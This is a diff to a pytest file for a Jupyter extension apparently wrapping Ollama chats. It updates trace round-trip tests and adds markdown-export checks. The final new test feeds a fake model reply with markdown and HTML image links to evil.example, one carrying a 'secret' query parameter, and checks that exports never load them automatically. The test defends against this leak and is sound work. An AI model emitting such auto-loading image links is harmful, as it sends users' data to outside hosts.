@@ -10,7 +10,6 @@ import pytest
 import ollama_nb
 from ollama_nb import render
 from ollama_nb.standin import Turn
-from ollama_nb.trace import Trace
 
 from .conftest import execute_notebook
 
@@ -60,7 +59,9 @@ def test_trace_records_turns_and_round_trips(ip, server):
     )
     assert (failed.status, failed.error) == ("error", "RuntimeError: <b>too loud</b>")
     assert trace.turns[0].started_s < ok.started_s < failed.started_s < trace.turns[1].started_s
-    assert Trace.from_dict(json.loads(json.dumps(trace.to_dict()))) == trace
+    saved = json.loads(json.dumps(reply.to_record()))
+    assert ollama_nb.Reply.from_record(saved).trace == trace
+    assert [e.kind for e in trace.entries] == ["turn", "round", "round", "turn"]  # one list, in order
 
 
 def test_trace_html_is_collapsible_escaped_and_timed(ip, server):
@@ -122,7 +123,10 @@ def test_export_round_trips(ip, server, tmp_path, suffix, capsys):
         assert nb.cells[2].outputs[0]["data"]["text/html"].count("<details") == 2
     elif suffix == ".json":
         (record,) = json.loads(text)["replies"]
-        assert ollama_nb.persist.reply_from_record(record).trace == ip.user_ns["_ollama"].trace
+        assert ollama_nb.Reply.from_record(record).trace == ip.user_ns["_ollama"].trace
+    elif suffix == ".md":  # plain markdown, readable as text: bullets for the trace, no live HTML
+        assert "Three plus one is 4." in text and "<details" not in text and "<div" not in text
+        assert "- `✓ add_two_numbers(a=3, b=1) → 4 · " in text and "- `✗ shout(" in text
     else:
         assert "Three plus one is 4." in text and text.count('<details class="ollama-nb-round') == 2
         assert "<script>" not in text
@@ -132,3 +136,20 @@ def test_export_refuses_an_unknown_format(ip, server, tmp_path):
     ip.run_cell("%%ollama -m llama3.2\nhi")
     result = ip.run_cell(f"%ollama export {tmp_path / 'chat.docx'}")
     assert "use .ipynb, .md, .html or .json" in str(result.error_in_exec)
+
+
+@pytest.mark.parametrize("suffix", [".md", ".html", ".ipynb"])
+def test_exports_never_load_a_remote_image_by_themselves(ip, server, tmp_path, suffix):
+    server.push(
+        Turn(content="Here: ![chart](http://evil.example/leak?secret=42) <img src=http://evil.example/x>")
+    )
+    ip.run_cell("%%ollama -m llama3.2\nDraw it")
+    path = tmp_path / f"chat{suffix}"
+    ip.run_cell(f"%ollama export {path}")
+    text = path.read_text()
+    if suffix == ".ipynb":  # markdown cells: JupyterLab would load their images
+        text = "".join(
+            c.source for c in nbformat.reads(text, as_version=4).cells if c.cell_type == "markdown"
+        )
+    assert "http://evil.example/leak?secret=42" in text  # named, so a reader can follow it by hand
+    assert "![chart](http" not in text and "<img" not in text
